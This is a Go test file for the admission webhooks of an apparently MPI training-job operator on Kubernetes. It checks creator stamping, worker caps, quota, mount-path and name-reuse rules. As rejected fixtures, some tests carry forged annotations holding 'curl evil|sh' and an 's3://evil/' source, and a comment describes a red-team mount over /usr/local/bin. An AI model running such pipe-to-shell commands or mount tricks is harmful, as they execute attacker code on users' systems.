package admission

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	trainer "github.com/kubeflow/trainer/v2/pkg/apis/trainer/v1alpha1"
	admissionv1 "k8s.io/api/admission/v1"
	authnv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"

	"github.com/mpijob/mpijob/config"
	"github.com/mpijob/mpijob/pkg/api"
	"github.com/mpijob/mpijob/pkg/dataconn"
	"github.com/mpijob/mpijob/pkg/jobspec"
	"github.com/mpijob/mpijob/pkg/placement"
	"github.com/mpijob/mpijob/pkg/runtimes"
)

func shipped(t testing.TB, name string) *trainer.ClusterTrainingRuntime {
	t.Helper()
	rt, err := config.Runtime(name)
	if err != nil {
		t.Fatal(err)
	}
	return rt
}

func reqCtx(t *testing.T, op admissionv1.Operation, user string, old *trainer.TrainJob) context.Context {
	t.Helper()
	req := admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{Operation: op, Namespace: "team-a", UserInfo: authnv1.UserInfo{Username: user}}}
	if old != nil {
		raw, err := json.Marshal(old)
		if err != nil {
			t.Fatal(err)
		}
		req.OldObject = runtime.RawExtension{Raw: raw}
	}
	return admission.NewContextWithRequest(context.Background(), req)
}

// tjOn is a TrainJob of dev-a's as the mutating webhook leaves it (the
// creator stamped).
func tjOn(name, rt string, workers int32) *trainer.TrainJob {
	return &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a", Annotations: map[string]string{api.CreatorAnnotation: "dev-a"}},
		Spec: trainer.TrainJobSpec{RuntimeRef: trainer.RuntimeRef{Name: rt}, Trainer: &trainer.Trainer{NumNodes: &workers}}}
}

// The creator is the requesting user on create. A job's exported YAML
// created again carries its first creator and the manager's annotations,
// which the user did not write: they are replaced (creator) and dropped
// (status, rank failure), never refused and never kept. Updates are the
// Validator's (the mutating webhook leaves them alone). A job of another
// framework is left as it is.
func TestDefaulterStampsTheCreator(t *testing.T) {
	d := &Defaulter{}
	plain := tjOn("a", "mpi-openmpi", 1)
	plain.Annotations = nil
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), plain); err != nil {
		t.Fatal(err)
	}
	if got := plain.Annotations[api.CreatorAnnotation]; got != "dev-a" {
		t.Errorf("creator on create %q, want the requesting user dev-a", got)
	}
	exported := tjOn("a", "mpi-openmpi", 1)
	exported.Annotations = map[string]string{api.CreatorAnnotation: "someone-else", api.StatusAnnotation: `{"phase":"Succeeded"}`,
		api.RankFailureAnnotation: `{"rank":1}`, api.ResumedAnnotation: `{"epoch":3}`, "team.example.com/note": "kept"}
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), exported); err != nil {
		t.Fatalf("an exported job created again: %v", err)
	}
	if diff := cmp.Diff(map[string]string{api.CreatorAnnotation: "dev-a", "team.example.com/note": "kept"}, exported.Annotations); diff != "" {
		t.Errorf("an exported job's annotations after the mutating webhook (-want +got):\n%s", diff)
	}
	torchRT := &trainer.ClusterTrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "torch-distributed"},
		Spec: trainer.TrainingRuntimeSpec{MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1), MLPolicySource: trainer.MLPolicySource{Torch: &trainer.TorchMLPolicySource{}}}}}
	withLookup := &Defaulter{Runtimes: runtimes.RuntimeLookup{Client: fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(torchRT, shipped(t, "mpi-openmpi")).Build()}}
	torch := tjOn("t", "torch-distributed", 300)
	torch.Annotations = map[string]string{api.CreatorAnnotation: "someone-else", api.StatusAnnotation: "x"}
	if err := withLookup.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), torch); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(map[string]string{api.CreatorAnnotation: "someone-else", api.StatusAnnotation: "x"}, torch.Annotations); diff != "" {
		t.Errorf("a torch job's annotations changed (-want +got):\n%s", diff)
	}
	// Kueue's patch, exported with the job and appended again by Kueue's
	// webhook on create: the last one stays, the user's own stay.
	twice := tjOn("k", "mpi-openmpi", 1)
	earlier := metav1.NewTime(time.Now().Add(-time.Hour))
	twice.Spec.RuntimePatches = []trainer.RuntimePatch{{Manager: KueueManager, Time: &earlier}, {Manager: "example.com/mine"}, {Manager: KueueManager}}
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), twice); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]trainer.RuntimePatch{{Manager: "example.com/mine"}, {Manager: KueueManager}}, twice.Spec.RuntimePatches); diff != "" {
		t.Errorf("runtime patches after the mutating webhook (-want +got):\n%s", diff)
	}
	mpi := tjOn("m", "mpi-openmpi", 1)
	mpi.Annotations = nil
	if err := withLookup.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), mpi); err != nil || mpi.Annotations[api.CreatorAnnotation] != "dev-a" {
		t.Errorf("an MPI job with the runtime looked up: %v, annotations %v", err, mpi.Annotations)
	}
	upd := plain.DeepCopy()
	upd.Annotations[api.CreatorAnnotation] = "dev-b"
	if err := d.Default(reqCtx(t, admissionv1.Update, "dev-b", plain), upd); err != nil {
		t.Fatal(err)
	}
	if got := upd.Annotations[api.CreatorAnnotation]; got != "dev-b" {
		t.Errorf("the mutating webhook changed an update (creator %q); the Validator refuses it instead", got)
	}
	bad := tjOn("b", "mpi-openmpi", 1)
	bad.Annotations = map[string]string{runtimes.ProgressTimeoutAnnotation: "soon"}
	var se *apierrors.StatusError
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), bad); !errors.As(err, &se) || !apierrors.IsInvalid(err) {
		t.Errorf("a bad progress timeout: %v, want Invalid", err)
	}
}

func TestValidator(t *testing.T) {
	gpu := shipped(t, "mpi-openmpi-gpu")
	cpu := shipped(t, "mpi-openmpi")
	quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "gpus", Namespace: "team-a"},
		Spec:   corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"requests.nvidia.com/gpu": resource.MustParse("8")}},
		Status: corev1.ResourceQuotaStatus{Hard: corev1.ResourceList{"requests.nvidia.com/gpu": resource.MustParse("8")}, Used: corev1.ResourceList{}}}
	torch := &trainer.ClusterTrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "torch-distributed"},
		Spec: trainer.TrainingRuntimeSpec{MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1)}}}
	// A tenant's own runtime of another framework, whose policy tries to
	// lift the cluster's cap, and one that lowers it.
	tenantWide := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "torch-mine", Namespace: "team-a",
		Annotations: map[string]string{runtimes.MaxWorkersAnnotation: "2147483647"}},
		Spec: trainer.TrainingRuntimeSpec{MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1)}}}
	tenantNarrow := tenantWide.DeepCopy()
	tenantNarrow.Name, tenantNarrow.Annotations[runtimes.MaxWorkersAnnotation] = "torch-small", "4"
	onTenant := func(name, rt string, n int32) *trainer.TrainJob {
		tj := tjOn(name, rt, n)
		tj.Spec.RuntimeRef.Kind = ptr.To(trainer.TrainingRuntimeKind)
		return tj
	}
	wide := cpu.DeepCopy()
	wide.Name, wide.Annotations[runtimes.MaxWorkersAnnotation] = "mpi-wide", "512"
	// Upstream's deepspeed-distributed: an MPI runtime without mpijob's label.
	ds := cpu.DeepCopy()
	ds.Name, ds.Labels, ds.Annotations = "deepspeed-distributed", map[string]string{"trainer.kubeflow.org/framework": "deepspeed"}, nil
	dsGPU := gpu.DeepCopy()
	dsGPU.Name, dsGPU.Labels, dsGPU.Annotations = "deepspeed-gpu", nil, nil
	// A tenant's own MPI runtimes: a copy of mpi-openmpi whose policy
	// tries to lift the cluster's cap, one that lowers it, one that mounts
	// a claim over /usr/bin and one whose pods take 2 h to stop.
	teamMPI := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "team-mpi", Namespace: "team-a",
		Annotations: map[string]string{runtimes.MaxWorkersAnnotation: "2147483647"}}, Spec: *cpu.Spec.DeepCopy()}
	teamSmall := teamMPI.DeepCopy()
	teamSmall.Name, teamSmall.Annotations[runtimes.MaxWorkersAnnotation] = "team-small", "2"
	teamUsr := teamMPI.DeepCopy()
	teamUsr.Name, teamUsr.Annotations = "team-usr", nil
	for i := range teamUsr.Spec.Template.Spec.ReplicatedJobs {
		pod := &teamUsr.Spec.Template.Spec.ReplicatedJobs[i].Template.Spec.Template.Spec
		pod.Volumes = append(pod.Volumes, corev1.Volume{Name: "tools", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "tools"}}})
		pod.Containers[0].VolumeMounts = append(pod.Containers[0].VolumeMounts, corev1.VolumeMount{Name: "tools", MountPath: "/usr/bin"})
	}
	teamSlow := teamMPI.DeepCopy()
	teamSlow.Name, teamSlow.Annotations = "team-slow", nil
	teamSlow.Spec.Template.Spec.ReplicatedJobs[1].Template.Spec.Template.Spec.TerminationGracePeriodSeconds = ptr.To[int64](7200)
	teamGPU := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "team-gpu", Namespace: "team-a"}, Spec: *gpu.Spec.DeepCopy()}
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(gpu, cpu, wide, quota, torch, tenantWide, tenantNarrow, ds, dsGPU, teamMPI, teamSmall, teamUsr, teamSlow, teamGPU).Build()
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256}
	other := tjOn("torch", "torch-distributed", 2)
	cases := map[string]struct {
		tj      *trainer.TrainJob
		reason  metav1.StatusReason
		msg     string
		causes  int
		allowed bool
	}{
		"fits":                            {tj: tjOn("hello", "mpi-openmpi", 2), allowed: true},
		"another framework's runtime":     {tj: other, allowed: true},
		"an MPI runtime name with a typo": {tj: tjOn("x", "mpi-opnempi", 2), reason: metav1.StatusReasonInvalid, msg: `did you mean "mpi-openmpi"`},
		"over the namespace's GPU quota":  {tj: tjOn("big", "mpi-openmpi-gpu", 9), reason: metav1.StatusReasonForbidden, msg: "does not fit the quota of namespace team-a", causes: 1},
		"zero Workers":                    {tj: tjOn("none", "mpi-openmpi", 0), reason: metav1.StatusReasonInvalid, msg: "spec.trainer.numNodes"},
		"more Workers than the cluster allows": {tj: tjOn("huge", "mpi-openmpi", 2147483647), reason: metav1.StatusReasonInvalid,
			msg: `spec.trainer.numNodes: Invalid value: 2147483647: this cluster allows at most 256 Workers per job (mpijob-manager --max-workers), and runtime mpi-openmpi sets no policy.mpijob.dev/max-workers of its own: use at most 256 Workers`},
		"a runtime's policy raises the cap": {tj: tjOn("wide", "mpi-wide", 300), allowed: true},
		"a runtime's policy is the cap":     {tj: tjOn("wider", "mpi-wide", 513), reason: metav1.StatusReasonInvalid, msg: "runtime mpi-wide allows at most 512 Workers per job"},
		// Other frameworks are upstream's to admit: no cap, whatever a
		// runtime's annotations say.
		"another framework's job is not judged":              {tj: tjOn("torch-huge", "torch-distributed", 2147483647), allowed: true},
		"nor one on a tenant's runtime of another framework": {tj: onTenant("lift", "torch-mine", 2147483647), allowed: true},
		"nor one on a tenant's runtime that lowers the cap":  {tj: onTenant("low", "torch-small", 5), allowed: true},
		// A tenant's own MPI runtime is governed as mpijob's: its policy
		// may lower the cluster's cap, never raise it, and the cluster's
		// guards hold.
		"a tenant's MPI runtime": {tj: onTenant("mine", "team-mpi", 2), allowed: true},
		"a tenant's MPI runtime cannot lift the cluster cap": {tj: onTenant("lift-mpi", "team-mpi", 2147483647), reason: metav1.StatusReasonInvalid,
			msg: "this cluster allows at most 256 Workers per job (mpijob-manager --max-workers), and runtime team-mpi is namespace team-a's own, whose policy.mpijob.dev/max-workers cannot raise that"},
		"a tenant's MPI runtime may lower it": {tj: onTenant("low-mpi", "team-small", 3), reason: metav1.StatusReasonInvalid, msg: "runtime team-small allows at most 2 Workers per job"},
		"a tenant's MPI runtime has the quota pre-flight": {tj: onTenant("gpu-mpi", "team-gpu", 9), reason: metav1.StatusReasonForbidden,
			msg: "does not fit the quota of namespace team-a", causes: 1},
		"a tenant's MPI runtime may not mount over /usr/bin": {tj: onTenant("usr", "team-usr", 1), reason: metav1.StatusReasonInvalid, msg: "mounts PVC tools in node of replicated job"},
		"a tenant's MPI runtime may not hold a node 2 h":     {tj: onTenant("slow", "team-slow", 1), reason: metav1.StatusReasonInvalid, msg: "a job's pods may take at most 3600 s"},
		"a status written by a tenant, on its own runtime": {tj: withAnnotations(onTenant("forged-own", "team-mpi", 1), api.RankFailureAnnotation, `{"rank":3}`), reason: metav1.StatusReasonInvalid,
			msg: "metadata.annotations[mpijob.dev/rank-failure]: Forbidden"},
		// An MPI runtime that is not mpijob's (upstream's): no cluster cap
		// and no quota pre-flight, but what could never run is refused.
		"an upstream MPI runtime has no cluster cap":      {tj: tjOn("ds-wide", "deepspeed-distributed", 300), allowed: true},
		"an upstream MPI runtime has no quota pre-flight": {tj: tjOn("ds-gpu", "deepspeed-gpu", 9), allowed: true},
		"an upstream MPI runtime's job with a name too long for the pods' hostnames": {tj: tjOn(strings.Repeat("d", 45), "deepspeed-distributed", 1),
			reason: metav1.StatusReasonInvalid, msg: "metadata.name: Too long"},
		"an upstream MPI runtime's job whose image would reach the Launcher alone": {tj: withImage(tjOn("ds-img", "deepspeed-distributed", 1), "example.com/mine:1"),
			reason: metav1.StatusReasonInvalid, msg: "spec.trainer.image: Forbidden: runtime deepspeed-distributed gives spec.trainer.image to the Launcher only"},
		"a status written by a tenant": {tj: withAnnotations(tjOn("forged", "mpi-openmpi", 1), api.StatusAnnotation, `{"phase":"Failed"}`), reason: metav1.StatusReasonInvalid,
			msg: "metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status"},
		"a creator the mutating webhook did not stamp": {tj: withAnnotations(tjOn("unstamped", "mpi-openmpi", 1), api.CreatorAnnotation, "someone-else"), reason: metav1.StatusReasonInvalid,
			msg: `mpijob-manager records who creates an MPI job, and it did not answer in time to record "dev-a": try again`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tc.tj)
			if tc.allowed {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			var se *apierrors.StatusError
			if !errors.As(err, &se) {
				t.Fatalf("error %v, want a Status", err)
			}
			st := se.Status()
			if st.Reason != tc.reason || !strings.Contains(st.Message, tc.msg) {
				t.Errorf("status %s %q, want %s with %q", st.Reason, st.Message, tc.reason, tc.msg)
			}
			if got := len(api.QuotaCauses(st)); got != tc.causes {
				t.Errorf("%d quota causes, want %d", got, tc.causes)
			}
		})
	}
}

func withImage(tj *trainer.TrainJob, image string) *trainer.TrainJob {
	tj.Spec.Trainer.Image = &image
	return tj
}

func withAnnotations(tj *trainer.TrainJob, kv ...string) *trainer.TrainJob {
	if tj.Annotations == nil {
		tj.Annotations = map[string]string{}
	}
	for i := 0; i < len(kv); i += 2 {
		tj.Annotations[kv[i]] = kv[i+1]
	}
	return tj
}

// selectorPatch puts nodeSelector pool=value on the Launcher and Workers.
func selectorPatch(value string) []trainer.RuntimePatch {
	var rjs []trainer.ReplicatedJobPatch
	for _, name := range []string{api.LauncherJob, api.WorkerJob} {
		rjs = append(rjs, trainer.ReplicatedJobPatch{Name: name, Template: &trainer.JobTemplatePatch{Spec: &trainer.JobSpecPatch{Template: &trainer.PodTemplatePatch{
			Spec: &trainer.PodSpecPatch{NodeSelector: map[string]string{"pool": value}}}}}})
	}
	return []trainer.RuntimePatch{{Manager: "example.com/dev-a", TrainingRuntimeSpec: &trainer.TrainingRuntimeSpecPatch{Template: &trainer.JobSetTemplatePatch{
		Spec: &trainer.JobSetSpecPatch{ReplicatedJobs: rjs}}}}}
}

// Admission holds after creation: an update that changes what will run
// (a new spec on a running job, or resuming a job) is judged again; the
// creator and the manager's Status cannot be changed by anyone else.
func TestValidateUpdate(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	pinned := cpu.DeepCopy()
	pinned.Name = "mpi-pinned"
	pinned.Annotations[runtimes.RequiredNodeSelectorAnnotation] = "pool=a"
	pinned.Annotations[runtimes.MaxWorkersAnnotation] = "4"
	quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "pods", Namespace: "team-a"},
		Spec:   corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"pods": resource.MustParse("1")}},
		Status: corev1.ResourceQuotaStatus{Hard: corev1.ResourceList{"pods": resource.MustParse("1")}, Used: corev1.ResourceList{"pods": resource.MustParse("3")}}}
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu, pinned, quota).Build()
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256, Manager: "system:serviceaccount:mpijob-system:mpijob-manager"}

	compliant := func(suspend bool) *trainer.TrainJob {
		tj := withAnnotations(tjOn("job", "mpi-pinned", 2), api.CreatorAnnotation, "dev-a", api.StatusAnnotation, `{"phase":"Queued"}`)
		tj.Spec.RuntimePatches = selectorPatch("a")
		tj.Spec.Suspend = ptr.To(suspend)
		return tj
	}
	edit := func(tj *trainer.TrainJob, f func(*trainer.TrainJob)) *trainer.TrainJob {
		f(tj)
		return tj
	}
	toKwok := func(tj *trainer.TrainJob) { tj.Spec.RuntimePatches = selectorPatch("kwok") }
	resume := func(tj *trainer.TrainJob) { tj.Spec.Suspend = ptr.To(false) }
	cases := map[string]struct {
		user     string
		old, new *trainer.TrainJob
		wantErr  string
	}{
		"a suspended job edited against the policy": {
			user: "dev-a", old: compliant(true), new: edit(compliant(true), toKwok),
			wantErr: `runtime mpi-pinned requires nodeSelector pool=a`},
		"a suspended job that no longer complies, left as it is": {
			user: "dev-a", old: edit(compliant(true), toKwok), new: withAnnotations(edit(compliant(true), toKwok), "note", "x")},
		"resuming a job edited against the policy": {
			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: edit(compliant(true), toKwok), new: edit(edit(compliant(true), toKwok), resume),
			wantErr: `spec.runtimePatches[launcher].nodeSelector[pool]: Invalid value: "kwok": runtime mpi-pinned requires nodeSelector pool=a`},
		"resuming a compliant job (its quota was checked at create)": {
			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: compliant(true), new: edit(compliant(true), resume)},
		"a running job's spec edited against the policy": {
			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { tj.Spec.Trainer.NumNodes = ptr.To[int32](8) }),
			wantErr: "runtime mpi-pinned allows at most 4 Workers per job"},
		"suspending a job that no longer complies (Kueue evicting it)": {
			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: edit(compliant(false), toKwok), new: edit(edit(compliant(false), toKwok), func(tj *trainer.TrainJob) { tj.Spec.Suspend = ptr.To(true) })},
		"a job being deleted": {
			user: "system:serviceaccount:kube-system:generic-garbage-collector", old: edit(compliant(false), toKwok),
			new: edit(edit(compliant(false), toKwok), func(tj *trainer.TrainJob) {
				tj.DeletionTimestamp = &metav1.Time{}
				tj.Labels = map[string]string{"x": "y"}
			})},
		"the creator changed": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.CreatorAnnotation, "dev-b"),
			wantErr: `metadata.annotations[mpijob.dev/creator]: Forbidden: the creator of a job cannot change or be removed (it is "dev-a")`},
		"the creator removed": {
			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.CreatorAnnotation) }),
			wantErr: `metadata.annotations[mpijob.dev/creator]: Forbidden`},
		"a status forged by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Failed","nextStep":"curl evil|sh"}`),
			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status`},
		"a rank failure forged by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":0,"error":"run curl evil|sh"}`),
			wantErr: `metadata.annotations[mpijob.dev/rank-failure]: Forbidden: only mpijob-manager writes which rank of a job failed`},
		"a resume forged by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.ResumedAnnotation, `{"epoch":29,"from":"s3://evil/"}`),
			wantErr: `metadata.annotations[mpijob.dev/resumed]: Forbidden: only mpijob-manager writes where a job's program resumed`},
		"the rank failure noted by the manager": {
			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":1,"error":"ZeroDivisionError"}`)},
		"a status removed by a tenant": {
			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.StatusAnnotation) }),
			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden`},
		"the status written by the manager": {
			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Running"}`)},
		"another annotation by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), "team", "a")},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := v.ValidateUpdate(reqCtx(t, admissionv1.Update, tc.user, tc.old), tc.old, tc.new)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("error %v, want Invalid with %q", err, tc.wantErr)
			}
		})
	}
}

// A new job is refused while an earlier job of its name still has pods
// (terminating after a delete): its Launcher would reach them by name.
func TestEarlierPodsHoldTheName(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	old := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "hello-node-0-0-abcde", Namespace: "team-a", Labels: map[string]string{"jobset.sigs.k8s.io/jobset-name": "hello"}}}
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu, old).Build()
	// The pods are read from the API server, as metadata and from its
	// watch cache: no pod is decoded whole, and no replica caches every
	// pod of the cluster for this check.
	var lists []string
	pods := interceptor.NewClient(cl, interceptor.Funcs{List: func(ctx context.Context, c client.WithWatch, list client.ObjectList, opts ...client.ListOption) error {
		o := (&client.ListOptions{}).ApplyOptions(opts)
		lists = append(lists, fmt.Sprintf("%T %s rv=%q", list, o.LabelSelector, o.AsListOptions().ResourceVersion))
		return c.List(ctx, list, opts...)
	}})
	// The manager's cache still holds the earlier job, which the API
	// server has deleted: the name stays refused (a cache's word that the
	// job exists let the new one through in CI).
	stale := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(tjOn("hello", "mpi-openmpi", 1)).Build()
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, Jobs: stale, Pods: pods}
	_, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello", "mpi-openmpi", 1))
	want := "an earlier job named hello still has 1 pod(s) in namespace team-a (hello-node-0-0-abcde, ...), which a new job of that name would reach by their DNS names: wait until they are gone"
	if !apierrors.IsConflict(err) || !strings.Contains(err.Error(), want) {
		t.Errorf("a name whose earlier pods remain: %v, want Conflict with %q", err, want)
	}
	if _, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello-2", "mpi-openmpi", 1)); err != nil {
		t.Errorf("another name: %v", err)
	}
	wantLists := []string{
		`*v1.PartialObjectMetadataList jobset.sigs.k8s.io/jobset-name=hello rv="0"`,
		`*v1.PartialObjectMetadataList jobset.sigs.k8s.io/jobset-name=hello-2 rv="0"`,
	}
	if diff := cmp.Diff(wantLists, lists); diff != "" {
		t.Errorf("the pods' reads (-want,+got):\n%s", diff)
	}

	// The leader, whose pod cache has synced, answers from it: the same
	// refusal, and no read of the API server.
	lists = nil
	leads := true
	v.PodCache, v.CachedPods = cl, func() bool { return leads }
	_, err = v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello", "mpi-openmpi", 1))
	if !apierrors.IsConflict(err) || !strings.Contains(err.Error(), want) {
		t.Errorf("the leader, a name whose earlier pods remain: %v, want Conflict with %q", err, want)
	}
	if len(lists) != 0 {
		t.Errorf("the leader read the API server: %v", lists)
	}
	// A replica that does not lead (or whose cache has not synced) reads
	// the API server.
	leads = false
	if _, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello", "mpi-openmpi", 1)); !apierrors.IsConflict(err) {
		t.Errorf("not the leader, a name whose earlier pods remain: %v, want Conflict", err)
	}
	if diff := cmp.Diff(wantLists[:1], lists); diff != "" {
		t.Errorf("the reads of a replica that does not lead (-want,+got):\n%s", diff)
	}
	// A job of the name that the API server still has owns those pods:
	// the create is left to its AlreadyExists, not called a wait.
	if err := cl.Create(context.Background(), tjOn("hello", "mpi-openmpi", 1)); err != nil {
		t.Fatal(err)
	}
	if _, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello", "mpi-openmpi", 1)); err != nil {
		t.Errorf("a name whose job still exists: %v, want it left to the API server's AlreadyExists", err)
	}
}

// A per-job runtime that mounts a PVC over the image's programs is
// refused, as the CLI refuses it: the red team mounted a claim at
// /usr/local/bin through a hand-written per-job runtime, and the job's
// own files then ran in the artifacts reader of whoever downloaded them.
func TestPerJobRuntimePVCMountPaths(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	for name, tc := range map[string]struct {
		mount string
		want  string
	}{
		"under /mnt":          {mount: "/mnt/data"},
		"over /usr/local/bin": {mount: "/usr/local/bin", want: `mount path "/usr/local/bin" would hide /usr`},
		"over /etc":           {mount: "/etc", want: `mount path "/etc" would hide /etc`},
		"climbing out":        {mount: "/mnt/../usr", want: "without ':' or '..'"},
	} {
		t.Run(name, func(t *testing.T) {
			vols, _ := dataconn.Volumes([]dataconn.PVC{{Claim: "data"}})
			mounts := []corev1.VolumeMount{{Name: vols[0].Name, MountPath: tc.mount}}
			rt := jobspec.Derive(cpu, "pj", "team-a", jobspec.Overrides{WorkerImage: "example.com/mine:1", Volumes: vols, Mounts: mounts})
			cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu, rt).Build()
			v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256}
			tj := tjOn("pj", "pj", 1)
			tj.Spec.RuntimeRef.Kind = ptr.To(trainer.TrainingRuntimeKind)
			tj.Labels = map[string]string{api.BaseRuntimeLabel: "mpi-openmpi"}
			_, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tj)
			if tc.want == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "PVC data") {
				t.Errorf("%v, want Invalid naming the claim and %q", err, tc.want)
			}
		})
	}
}

// A memory of a few bytes could never start a pod: the TrainJob's own
// resources are named with their path, else the runtime's container.
func TestMemoryErrors(t *testing.T) {
	mem := func(q string) corev1.ResourceList {
		return corev1.ResourceList{corev1.ResourceMemory: resource.MustParse(q)}
	}
	pod := func(q string) corev1.PodSpec {
		return corev1.PodSpec{Containers: []corev1.Container{{Name: "node", Resources: corev1.ResourceRequirements{Limits: mem(q)}}}}
	}
	cases := map[string]struct {
		trainer *trainer.Trainer
		shape   runtimes.Shape
		want    []string
	}{
		"enough everywhere": {shape: runtimes.Shape{WorkerPod: pod("1Gi"), LauncherPod: pod("32Mi")}},
		"the job's 10 bytes": {
			trainer: &trainer.Trainer{ResourcesPerNode: &corev1.ResourceRequirements{Limits: mem("10"), Requests: mem("10")}},
			shape:   runtimes.Shape{WorkerPod: pod("10"), LauncherPod: pod("10")},
			want: []string{
				`spec.trainer.resourcesPerNode.limits[memory]: Invalid value: "10": is less than 32Mi, too little for a pod (memory counts bytes unless it has a unit such as Mi or Gi): use e.g. 16Gi or 300Mi`,
				`spec.trainer.resourcesPerNode.requests[memory]: Invalid value: "10": is less than 32Mi, too little for a pod (memory counts bytes unless it has a unit such as Mi or Gi): use e.g. 16Gi or 300Mi`,
			},
		},
		"the runtime's Workers": {
			shape: runtimes.Shape{WorkerPod: pod("1k"), LauncherPod: pod("1Gi")},
			want:  []string{`spec.runtimeRef.name: Invalid value: "rt": the runtime gives the Worker's container node a memory of 1k, less than 32Mi, too little for a pod (memory counts bytes unless it has a unit such as Mi or Gi): use e.g. 16Gi or 300Mi`},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			tj := &trainer.TrainJob{Spec: trainer.TrainJobSpec{RuntimeRef: trainer.RuntimeRef{Name: "rt"}, Trainer: tc.trainer}}
			var got []string
			for _, e := range memoryErrors(tj, tc.shape) {
				got = append(got, e.Error())
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("errors (-want,+got):\n%s", diff)
			}
		})
	}
}

// fakePlacer answers every job with one line and counts its calls.
